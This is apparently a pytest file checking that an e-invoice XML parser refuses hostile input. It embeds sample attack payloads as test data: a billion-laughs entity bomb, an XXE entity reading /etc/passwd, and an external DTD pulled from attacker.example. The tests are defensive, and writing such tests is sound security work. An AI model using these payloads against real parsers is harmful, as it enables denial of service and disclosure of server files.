"""Hostile or foreign XML is refused with a clear message, never expanded or fetched."""

from __future__ import annotations

from pathlib import Path

from cobro.cashapp.einvoice import parse_einvoice, parse_einvoice_bytes

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&lol4;</Invoice>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Total="&xxe;"/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""


def test_billion_laughs_is_refused() -> None:
    result = parse_einvoice_bytes(BILLION_LAUGHS, "lol.xml")
    assert result.documents == ()
    (problem,) = result.problems
    assert problem.code == "unsafe_xml"
    assert "declares entities" in problem.message
    assert problem.file == "lol.xml"


def test_external_entity_is_refused() -> None:
    (problem,) = parse_einvoice_bytes(EXTERNAL_ENTITY, "xxe.xml").problems
    assert problem.code == "unsafe_xml"
    assert problem.column == "/!DOCTYPE"
    assert "root:" not in problem.message  # nothing from /etc/passwd leaks into the message


def test_entities_declared_in_utf16_are_refused() -> None:
    data = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    (problem,) = parse_einvoice_bytes(data.decode().encode("utf-16"), "lol16.xml").problems
    assert problem.code == "unsafe_xml"


def test_external_dtd_is_refused() -> None:
    (problem,) = parse_einvoice_bytes(EXTERNAL_DTD, "dtd.xml").problems
    assert problem.code == "unsafe_xml"
    assert "attacker.example" in problem.message


def test_not_xml_and_unknown_roots() -> None:
    (problem,) = parse_einvoice_bytes(b"N43;not xml", "statement.n43").problems
    assert problem.code == "not_xml"
    (problem,) = parse_einvoice_bytes(b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>',
                                      "camt.xml").problems
    assert problem.code == "unknown_format"
    assert "camt.053" in problem.message


def test_missing_file(tmp_path: Path) -> None:
    (problem,) = parse_einvoice(tmp_path / "nope.xml").problems
    assert (problem.code, problem.file) == ("unreadable", "nope.xml")


def test_parsers_do_not_pull_in_the_database_or_web_layers() -> None:
    import subprocess
    import sys

    code = ("import sys, cobro.cashapp.einvoice; "
            "bad = [m for m in sys.modules if m.split('.')[0] in ('sqlalchemy', 'fastapi') "
            "or m.startswith('cobro.platform.db') "
            "or (m.count('.') == 2 and m.rsplit('.', 1)[-1] in ('records', 'repository', 'service'))]; print(bad)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip() == "[]"
